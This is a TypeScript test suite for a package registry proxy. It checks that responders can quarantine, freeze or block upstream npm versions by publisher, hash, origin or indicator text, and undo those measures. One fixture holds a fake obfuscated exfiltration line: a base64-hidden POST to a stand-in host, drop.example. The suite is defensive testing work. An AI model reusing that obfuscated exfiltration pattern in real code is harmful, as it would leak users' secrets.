// SPDX-License-Identifier: Apache-2.0
/** Measures reach what comes from upstreams as they reach what is hosted: by query, and by the hash of bytes. */
import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { type TestContext, test } from 'node:test'
import { packPackage } from '../fixture/tarball.ts'
import { startUpstream } from '../upstream-registry.ts'
import { dayMs, openWorld, type Someone } from '../world.ts'

async function open(t: TestContext) {
  const upstream = await startUpstream()
  const world = await openWorld({
    origins: JSON.stringify({ up: upstream.url }),
    allowPrivateHosts: '127.0.0.1',
  })
  t.after(async () => {
    assert.deepEqual(world.errors, [])
    await world.check()
    await world.close()
    await upstream.close()
  })
  const rae = await world.someone('rae', ['responder'])
  const sam = await world.someone('sam', ['responder'])
  const measure = (who: Someone, body: object, path = '') =>
    world.ask(`POST /api/v1/measures${path}`, { token: who.token, body: { reason: 'malware', ...body } })
  const listed = async (name: string) =>
    Object.keys((await world.npm(`GET /${name}`)).body?.versions ?? {}).join()
  const fetched = async (name: string, version: string) =>
    (await world.npm(`GET /${name}/-/${name}-${version}.tgz`)).status
  return { upstream, world, rae, sam, measure, listed, fetched }
}

const hashOf = (name: string, version: string, rest = {}) =>
  `sha512-${createHash('sha512')
    .update(packPackage({ name, version, ...rest }))
    .digest('base64')}`

const mallory = { _npmUser: { name: 'mallory' }, homepage: 'https://Drop.example/x' }

test('a query closes versions of upstreams by time, publisher, hash and text, and opens them as they were', async t => {
  const { upstream, world, rae, measure, listed, fetched } = await open(t)
  const recent = world.now() - 30 * dayMs
  upstream.publish('kit', '1.0.0')
  upstream.publish('kit', '1.0.1', {
    publishedAt: recent,
    manifest: mallory,
  })
  upstream.publish('other', '1.0.0', { manifest: { _npmUser: { name: 'ann' } } })
  assert.deepEqual([await listed('kit'), await listed('other')], ['1.0.0,1.0.1', '1.0.0'])
  assert.equal(await fetched('kit', '1.0.1'), 200)
  const queries = [
    { since: new Date(recent - 1000).toISOString() },
    { origin: 'up', publisher: 'mallory' },
    { indicator: 'drop.EXAMPLE' },
    { package: 'kit', version: '1.0.1' },
    { hash: hashOf('kit', '1.0.1', mallory) },
  ]
  for (const query of queries) {
    const said = JSON.stringify(query)
    const seen = await measure(rae, { kind: 'quarantine', ...query }, '/preview')
    assert.deepEqual(seen.body.versions, [{ name: 'kit', version: '1.0.1' }], said)
    const { body } = await measure(rae, { kind: 'quarantine', ...query })
    assert.equal(body.count, 1, said)
    assert.deepEqual([await listed('kit'), await fetched('kit', '1.0.1')], ['1.0.0', 403], said)
    assert.equal(await fetched('kit', '1.0.0'), 200, said)
    assert.equal((await measure(rae, { id: body.id }, '/undo')).body.state, 'undone')
    assert.deepEqual([await listed('kit'), await fetched('kit', '1.0.1')], ['1.0.0,1.0.1', 200], said)
  }
  const unknown = await measure(rae, { kind: 'quarantine', hash: hashOf('unknown', '1.0.0') })
  assert.equal(unknown.body.code, 'measure-invalid')
})

test('a person of here is not somebody of the same name at an upstream, nor the other way round', async t => {
  const { upstream, rae, measure, listed } = await open(t)
  upstream.publish('kit', '1.0.0', { manifest: { _npmUser: { name: 'rae' } } })
  assert.equal(await listed('kit'), '1.0.0')
  assert.equal((await measure(rae, { kind: 'quarantine', publisher: 'rae' }, '/preview')).body.count, 0)
  const there = { kind: 'quarantine', publisher: 'rae', origin: 'up' }
  assert.equal((await measure(rae, there, '/preview')).body.count, 1)
  assert.equal((await measure(rae, { ...there, origin: 'down' }, '/preview')).body.count, 0)
})

test('undoing one of two measures opens nothing of an upstream that the other closed', async t => {
  const { upstream, rae, sam, measure, listed } = await open(t)
  upstream.publish('kit', '1.0.0')
  upstream.publish('kit', '1.0.1')
  await listed('kit')
  const first = await measure(rae, { kind: 'quarantine', package: 'kit' })
  const second = await measure(sam, { kind: 'quarantine', package: 'kit', version: '1.0.1' })
  await measure(rae, { id: first.body.id }, '/undo')
  assert.equal(await listed('kit'), '1.0.0')
  await measure(sam, { id: second.body.id }, '/undo')
  assert.equal(await listed('kit'), '1.0.0,1.0.1')
})

test('blocked bytes are refused at once where they are cached, named, or come in later, until the block ends', async t => {
  const { upstream, rae, measure, listed, fetched } = await open(t)
  upstream.publish('kit', '1.0.0')
  upstream.publish('kit', '1.0.1')
  const good = upstream.tarballs.get('/kit/-/kit-1.0.0.tgz')
  assert.ok(good !== undefined)
  assert.equal(await listed('kit'), '1.0.0,1.0.1')
  assert.equal(await fetched('kit', '1.0.0'), 200)
  const { body } = await measure(rae, { kind: 'freeze', subject: `hash:${hashOf('kit', '1.0.0')}` })
  assert.deepEqual([await listed('kit'), await fetched('kit', '1.0.0')], ['1.0.1', 403])
  assert.equal(await fetched('kit', '1.0.1'), 200)
  const later = await measure(rae, { kind: 'freeze', subject: `hash:${hashOf('late', '1.0.0')}` })
  upstream.publish('late', '1.0.0')
  assert.deepEqual([await listed('late'), await fetched('late', '1.0.0')], ['', 403])
  for (const { id } of [body, later.body]) await measure(rae, { id }, '/undo')
  assert.deepEqual([await listed('kit'), await fetched('kit', '1.0.0')], ['1.0.0,1.0.1', 200])
  assert.equal(await fetched('late', '1.0.0'), 200)
})

test('of a version that its upstream names by SHA-1 alone no byte goes out once its bytes are blocked', async t => {
  const { upstream, world, rae, measure, fetched } = await open(t)
  upstream.publish('old', '1.0.0', { dist: { integrity: undefined, signatures: undefined } })
  const { body } = await measure(rae, { kind: 'freeze', subject: `hash:${hashOf('old', '1.0.0')}` })
  const refused = await world.npm('GET /old/-/old-1.0.0.tgz')
  assert.deepEqual([refused.status, refused.body.code], [403, 'frozen'])
  await measure(rae, { id: body.id }, '/undo')
  assert.equal(await fetched('old', '1.0.0'), 200)
})

test('what comes in from an upstream with a blocked text in it is closed before anybody gets a byte, and open with the end of the block', async t => {
  const { upstream, world, rae, measure, listed, fetched } = await open(t)
  const files = { 'lib/x.js': `post(atob("${Buffer.from('https://drop.example/take').toString('base64')}"))` }
  upstream.publish('kit', '1.0.0', { files })
  upstream.publish('kit', '1.0.1')
  assert.equal(await listed('kit'), '1.0.0,1.0.1')
  const { body } = await measure(rae, { kind: 'block', indicator: 'Drop.example', words: 'sends keys away' })
  const refused = await world.npm('GET /kit/-/kit-1.0.0.tgz')
  assert.equal(refused.status, 403)
  assert.match(refused.text, /sends keys away/)
  assert.equal(await fetched('kit', '1.0.1'), 200)
  assert.equal(await listed('kit'), '1.0.1')
  assert.equal((await measure(rae, { id: body.id }, '/undo')).body.state, 'undone')
  assert.deepEqual([await listed('kit'), await fetched('kit', '1.0.0')], ['1.0.0,1.0.1', 200])
})

test('a frozen origin is asked nothing and a switch keeps new names out, while what is here is served', async t => {
  const { upstream, world, rae, measure, listed, fetched } = await open(t)
  upstream.publish('here', '1.0.0')
  upstream.publish('new-a', '1.0.0')
  upstream.publish('new-b', '1.0.0')
  assert.deepEqual([await listed('here'), await fetched('here', '1.0.0')], ['1.0.0', 200])
  for (const [subject, name] of [
    ['origin:up', 'new-a'],
    ['proxying', 'new-b'],
  ] as const) {
    const { body } = await measure(rae, { kind: 'freeze', subject })
    const asked = upstream.asked.length
    assert.equal((await world.npm(`GET /${name}`)).status, 403, subject)
    assert.equal(upstream.asked.length, asked, subject)
    assert.deepEqual([await listed('here'), await fetched('here', '1.0.0')], ['1.0.0', 200])
    await measure(rae, { id: body.id }, '/undo')
    assert.equal(await listed(name), '1.0.0', subject)
  }
})
